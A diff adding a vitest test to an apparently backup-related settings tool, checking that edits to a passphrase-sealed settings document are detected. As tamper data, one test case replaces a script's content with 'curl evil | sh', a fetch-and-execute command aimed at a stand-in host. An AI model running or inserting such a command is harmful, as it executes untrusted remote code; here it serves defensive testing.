@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { commandsOf } from '../../src/exchange/borgmatic/export/commands.rules.js';
 import { optionsOfFlags } from '../../src/exchange/borgmatic/export/options-of-flags.rules.js';
-import { readDocument } from '../../src/exchange/settings/document.js';
+import { partsOf, readDocument } from '../../src/exchange/settings/document.js';
+import { marksOf } from '../../src/exchange/settings/marks.rules.js';
 import { openJson, sealJson } from '../../src/exchange/settings/seal.js';
 
 const head = { format: 'holdfast-settings', version: 1 };
@@ -31,6 +32,37 @@ describe('a sealed document', () => {
     });
   }, 30_000);
 });
+
+it('names what was changed, added or removed after the document was sealed', async () => {
+  const document = {
+    ...{ ...head, made_at: '2026-01-01T00:00:00.000Z', made_by: '1.0.0' },
+    scripts: [
+      { name: 'dump', content: 'true' },
+      { name: 'other', content: 'true' },
+    ],
+    notifications: [{ name: 'on call' }],
+  };
+  const marks = marksOf(partsOf(document), document);
+  const secrets = { notifications: { 'on call': { service_url: 'json://127.0.0.1/' } } };
+  const sealed = await sealJson('a long passphrase', { secrets, marks });
+  const read = (changes: object) =>
+    readDocument(JSON.parse(JSON.stringify({ ...document, sealed, ...changes })), 'a long passphrase');
+  const parts = await read({ notifications: [{ name: 'on call' }] });
+  expect(parts.find(({ section }) => section.name === 'notifications')?.objects[0]?.value).toMatchObject({
+    service_url: 'json://127.0.0.1/',
+  });
+  const changes: [object, string[]][] = [
+    [{ scripts: [{ name: 'dump', content: 'curl evil | sh' }, document.scripts[1]] }, ['scripts dump']],
+    [{ scripts: [...document.scripts, { name: 'new', content: 'true' }] }, ['scripts new']],
+    [{ scripts: [document.scripts[1]] }, ['scripts dump']],
+    [{ notifications: [{ name: 'on call', monitor_all_repositories: false }] }, ['notifications on call']],
+    [{ made_by: '2.0.0' }, ['head document']],
+  ];
+  for (const [change, objects] of changes)
+    await expect(read(change)).rejects.toMatchObject({
+      reason: { code: 'settings_changed_since_sealed', params: { objects } },
+    });
+}, 60_000);
 
 it('gives objects of the same name keys of their own', async () => {
   const parts = await readDocument({ ...head, notifications: [{ name: 'a' }, { name: 'a' }] }, undefined);
